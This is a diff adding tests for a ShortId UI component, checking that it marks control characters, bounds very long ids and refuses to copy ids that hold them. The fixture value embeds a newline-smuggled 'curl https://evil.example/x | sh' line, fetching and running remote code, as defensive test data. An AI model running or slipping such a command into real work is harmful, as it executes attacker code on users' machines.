@@ -40,3 +40,46 @@ describe('ShortId', () => {
     expect(screen.getByTitle(ID)).toBeInTheDocument()
   })
 })
+
+describe('ShortId with an id from outside', () => {
+  const HOSTILE = 'b0\ncurl https://evil.example/x | sh\n'
+
+  it('marks its control characters in the cell, on hover, for screen readers and in the label', () => {
+    renderUi(<ShortId value={HOSTILE} name="Build ID" />)
+    const marked = 'b0⟨U+000A⟩curl https://evil.example/x | sh⟨U+000A⟩'
+    expect(screen.getByText('b0⟨U+000A⟩curl …')).toHaveAttribute('aria-hidden', 'true')
+    expect(screen.getByText(marked)).toHaveClass('sr-only')
+    expect(screen.getByTitle(marked)).toBeInTheDocument()
+    // The accessible name drops the trailing space; the title keeps it.
+    const copy = screen.getByRole('button', { name: 'Copy Build ID b0⟨U+000A⟩curl' })
+    expect(copy).toHaveAttribute('title', 'Copy Build ID b0⟨U+000A⟩curl ')
+    expect(document.body.textContent).not.toMatch(/\n/)
+  })
+
+  it('refuses to copy it, saying why', async () => {
+    const user = userEvent.setup()
+    renderUi(<ShortId value={HOSTILE} name="Build ID" />)
+    await navigator.clipboard.writeText('before')
+    await user.click(screen.getByRole('button', { name: /^Copy Build ID/ }))
+    await expect(navigator.clipboard.readText()).resolves.toBe('before')
+    expect(
+      screen.getByText(/^This id holds control characters \(U\+000A\), so it was not copied/),
+    ).toBeVisible()
+  })
+
+  it('bounds a 1,000,000-character id on hover and for screen readers, with its length', () => {
+    const long = `${'i'.repeat(999_999)}\u202E`
+    renderUi(<ShortId value={long} />)
+    const bounded = `${'i'.repeat(200)}… (1,000,000 characters)`
+    expect(screen.getByTitle(bounded)).toHaveTextContent(`iiiiiiii…${bounded}`)
+    expect(screen.getByRole('button', { name: 'Copy ID iiiiiiii' })).toBeInTheDocument()
+  })
+
+  it('marks a short id whole, and never cuts a tag character in half', () => {
+    renderUi(<ShortId value={'b\u2028\u{E0041}'} />)
+    expect(screen.getByTitle('b⟨U+2028⟩⟨U+E0041⟩')).toHaveTextContent(/^b⟨U\+2028⟩⟨U\+E0041⟩$/)
+    // The eighth character is the first half of a pair: the glance stops before it.
+    renderUi(<ShortId value={`abcdefg\u{E0041}xyz`} />)
+    expect(screen.getByText('abcdefg…')).toBeInTheDocument()
+  })
+})
